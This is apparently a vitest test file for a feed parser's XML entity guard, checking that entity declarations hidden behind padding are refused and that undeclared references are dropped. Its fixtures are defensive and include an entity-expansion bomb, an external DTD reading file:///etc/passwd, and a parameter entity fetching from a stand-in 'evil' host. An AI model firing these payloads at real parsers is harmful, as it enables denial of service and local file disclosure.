import { describe, expect, it } from 'vitest';
import { assertNoEntities, dropUndeclaredEntities } from '../../src/parse/xml-guard.js';
import { parseFeed } from '../../src/parse/feed.js';
import type { RawItem } from '../../src/model.js';

const BOMB = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol7 "&lol;&lol;&lol;&lol;&lol;">]>';
const RSS = '<rss version="2.0"><channel><title>T</title><item><title>&lol7;</title><guid>g</guid></item></channel></rss>';
const KB70 = 70 * 1024;
const refused = /^parse: the document declares XML entities/;

/** Padding of the given kind, at least `size` characters long. */
const padding = (unit: string, size: number) => unit.repeat(Math.ceil(size / unit.length));

async function parse(body: string): Promise<{ items: RawItem[]; notes: string[] }> {
  const notes: string[] = [];
  const items = await parseFeed(body, 'https://example.fi/feed.xml', (m) => notes.push(m));
  return { items, notes };
}

describe('the entity guard reads past any padding', () => {
  it.each([
    ['70 kB of white space', padding(' \n\t', KB70) + BOMB + RSS],
    ['70 kB of comments', '<?xml version="1.0"?>' + padding('<!-- padding -->\n', KB70) + BOMB + RSS],
    ['70 kB of processing instructions', '<?xml version="1.0"?>' + padding('<?pi some data?>', KB70) + BOMB + RSS],
    ['1 MB of all three', '<?xml version="1.0"?>' + padding('<!-- c --> <?pi x?>\n', 1024 * 1024) + BOMB + RSS],
    ['70 kB of junk before the prolog', padding('<br /><b>Warning</b>: headers already sent<br />\n', KB70) + '<?xml version="1.0"?>' + BOMB + RSS],
    ['a lower-case doctype after padding', padding(' ', KB70) + BOMB.replace('DOCTYPE', 'doctype') + RSS],
    ['an external DTD after padding', padding(' ', KB70) + '<!DOCTYPE rss SYSTEM "file:///etc/passwd">' + RSS],
    ['a parameter entity', padding(' ', KB70) + '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/">%p;]>' + RSS],
    ['a declaration inside the root', '<rss version="2.0"><channel>' + padding(' ', KB70) + BOMB + '</channel></rss>'],
    ['an entity declaration without a DOCTYPE', padding(' ', KB70) + '<!ENTITY lol7 "x">' + RSS],
    ['an unterminated comment hiding nothing from a lenient parser', '<!-- ' + BOMB + RSS],
    ['a CDATA section in the prolog, where none can be', '<![CDATA[' + BOMB + ']]>' + RSS],
  ])('refuses a DOCTYPE with entities after %s', async (_name, body) => {
    expect(() => assertNoEntities(body)).toThrow(refused);
    await expect(parseFeed(body, 'https://example.fi/feed.xml')).rejects.toThrow(refused);
  });

  it.each([
    ['an RSS 0.91 DOCTYPE with a PUBLIC identifier', '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">' + RSS],
    ['70 kB of padding and no DOCTYPE', padding('<!-- c -->', KB70) + RSS],
    ['an entity declaration inside CDATA (an article about XML)', '<rss><channel><item><title><![CDATA[' + BOMB + ']]></title></item></channel></rss>'],
    ['an entity declaration inside a comment', '<!-- ' + BOMB + ' -->' + RSS],
  ])('lets through %s', (_name, body) => {
    expect(() => assertNoEntities(body)).not.toThrow();
  });

  it.each([
    ['unclosed DOCTYPEs', '<!DOCTYPE x '],
    ['unclosed comments', '<!-- '],
    ['unclosed CDATA sections', '<![CDATA[ '],
    ['DOCTYPEs closed only at the very end', '<!DOCTYPE '],
    ['references in unclosed comments', '<!-- &x; '],
  ])('reads 4 MB of %s in one pass (linear time)', (_name, unit) => {
    const body = padding(unit, 4 * 1024 * 1024) + '>';
    const started = performance.now();
    try {
      assertNoEntities(body);
    } catch {
      /* refusing is fine too; only the time matters here */
    }
    dropUndeclaredEntities(body);
    expect(performance.now() - started).toBeLessThan(5000); // quadratic would take hours
  });
});

describe('undeclared entity references never reach stored text', () => {
  it('drops them before the strict parser, which then reads the feed', async () => {
    const { items, notes } = await parse('<rss version="2.0"><channel><title>T</title><item><title>Pelastus&lol7;laki &foo;</title><description>a&lol7;b</description></item></channel></rss>');
    expect(items).toMatchObject([{ title: 'Pelastuslaki', summary: 'ab' }]);
    expect(notes).toEqual(['references to undeclared entities were dropped: &lol7;, &foo;']);
  });

  it('drops them before the lenient parser too, which keeps HTML entities as it did', async () => {
    // The bare "&" sends this feed to the lenient parser.
    const { items, notes } = await parse('<rss version="2.0"><channel><title>T</title><item><title>Sisä- & oikeus&lol7;asiat &auml; &nbsp;x</title><guid>g</guid></item></channel></rss>');
    expect(items[0].title).toBe('Sisä- & oikeusasiat ä \u00a0x');
    expect(notes).toEqual([
      'references to undeclared entities were dropped: &lol7;',
      expect.stringMatching(/^parsed with the lenient feed parser/),
    ]);
  });

  it('keeps what the document wrote as text: escaped references and CDATA', async () => {
    const { items, notes } = await parse('<rss version="2.0"><channel><title>T</title><item><title>&amp;lol7; &lt;b&gt;</title><description><![CDATA[<p>&lol7; &auml;</p>]]></description></item></channel></rss>');
    expect(items).toMatchObject([{ title: '&lol7; <b>', summary: '<p>&lol7; &auml;</p>' }]);
    expect(notes).toEqual([]);
  });

  it('reads a CDATA opener in the prolog as no section: references after it are still dropped', () => {
    expect(dropUndeclaredEntities('<![CDATA[&lol7;]]><rss><t><![CDATA[&kept;]]></t></rss>')).toEqual({
      text: '<![CDATA[]]><rss><t><![CDATA[&kept;]]></t></rss>',
      dropped: ['lol7'],
    });
  });

  it('leaves a body without undeclared references as it is', () => {
    const body = '<rss><title>a &amp; b &#228; &#xE4; &lt; &gt; &quot; &apos; &auml;</title></rss>';
    expect(dropUndeclaredEntities(body)).toEqual({ text: body, dropped: [] });
  });
});
